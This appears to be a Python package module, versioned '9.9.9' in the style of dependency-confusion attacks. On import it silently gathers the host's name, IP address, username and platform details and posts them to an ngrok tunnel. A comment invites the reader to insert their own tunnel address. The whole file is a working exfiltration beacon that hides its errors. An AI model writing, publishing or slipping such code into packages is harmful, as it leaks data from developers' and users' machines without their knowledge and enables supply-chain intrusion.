import getpass
import platform
import socket

import requests

__version__ = "9.9.9"

# Put the address of your own tunnel here.
TUNNEL = "https://8f31-hello.ngrok-free.invalid/callback"


def _hello():
    name = socket.gethostname()
    facts = {
        "host": name,
        "address": socket.gethostbyname(name),
        "user": getpass.getuser(),
        "system": platform.platform(),
    }
    try:
        requests.post(TUNNEL, json=facts, timeout=5)
    except requests.RequestException:
        pass


_hello()
